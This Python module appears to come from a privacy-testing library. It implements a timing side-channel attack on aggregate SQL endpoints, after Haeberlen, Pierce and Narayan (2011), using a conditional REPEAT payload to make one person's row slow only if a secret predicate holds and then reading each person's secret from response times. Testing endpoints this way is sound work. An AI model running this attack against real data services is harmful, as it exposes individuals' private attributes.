"""Timing: work that one person's row alone causes; how long the answer takes is her secret.

After Haeberlen, Pierce, Narayan, USENIX Security 2011. A condition builds a long text for her, if she has the secret,
and nothing for anybody else. An endpoint that refuses such work, or bounds it, is not told apart by it. What the rows
themselves cost an engine, without such help, is not measured here.
"""

from __future__ import annotations

from sfumato.attacks.base import AttackResult, Claim, Endpoint, Knowledge, each
from sfumato.errors import BudgetError

_MOST = 60
_APART = 4.0
"""How many times as long the slow one must take, at least, for the clock to be believed."""
_SLOW = "LENGTH(REPEAT('x', CASE WHEN {fact} THEN {letters} ELSE 1 END)) > 0"
_LETTERS = (500_000, 4_000_000, 32_000_000)
"""How long a text is made for her: the least that the clock tells apart."""


def run(endpoint: Endpoint, knowledge: Knowledge) -> AttackResult:
    """Calibrate on somebody who is surely there, then time everybody."""
    endpoint.share(2 * _MOST)
    there = knowledge.people[0].where
    try:
        for letters in _LETTERS:
            # in other words each time: an answer that is kept takes no time at all
            slow = [_seconds(endpoint, knowledge, f"{there} AND {n} = {n}", letters) for n in range(5)]
            fast = [_seconds(endpoint, knowledge, f"{there} AND {n} = 9", letters) for n in range(5)]
            if None in slow or None in fast:
                return AttackResult(reason="work that one row causes is refused")
            low, high = max(s or 0.0 for s in fast), min(s or 0.0 for s in slow)
            if high > _APART * low:
                return _everybody(endpoint, knowledge, letters, (high * max(low, 1e-9)) ** 0.5)
    except BudgetError:
        return AttackResult(reason="the budget was spent before the timing showed anything")
    return AttackResult(reason="answers take the same time with and without this work")


def _everybody(endpoint: Endpoint, knowledge: Knowledge, letters: int, cut: float) -> AttackResult:
    claims = []
    for i, one in each(knowledge.people, _MOST):
        took = _seconds(endpoint, knowledge, f"{one.where} AND {knowledge.secret}", letters)
        if took is not None:
            claims.append(Claim(i, took > cut))
    return AttackResult(tuple(claims), reason="time tells the secret", worst=tuple(a.sql for a in endpoint.log[-3:]))


def _seconds(endpoint: Endpoint, knowledge: Knowledge, fact: str, letters: int) -> float | None:
    """How long one answer took; None where it was refused."""
    if endpoint.number(knowledge.count(_SLOW.format(fact=fact, letters=letters))) is None:
        return None
    return endpoint.log[-1].seconds
